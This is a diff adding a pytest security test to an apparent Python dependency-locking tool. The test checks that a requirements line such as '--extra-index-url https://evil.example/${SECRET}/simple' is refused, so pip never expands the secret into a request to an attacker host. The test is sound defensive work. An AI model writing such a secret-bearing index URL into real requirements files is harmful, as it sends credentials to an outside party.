@@ -263,3 +263,10 @@ def test_an_error_of_another_kind_shows_no_value_either(
     with pytest.raises(FlowpackError) as raised:
         lock(read("-i https://packages.example/${SECRET}/simple\nflask\n"), "SECRET")
     assert "cret" not in f"{raised.value} {raised.value!r}".lower().replace("${secret}", "")
+
+
+@pytest.mark.attack("H4")
+def test_pip_gets_no_line_with_a_variable_that_it_would_expand_itself(read: Read) -> None:
+    options = read("--extra-index-url https://evil.example/${SECRET}/simple\n").options
+    with pytest.raises(RequirementsError, match="not passed: SECRET"):
+        list(options.requirements_lines())
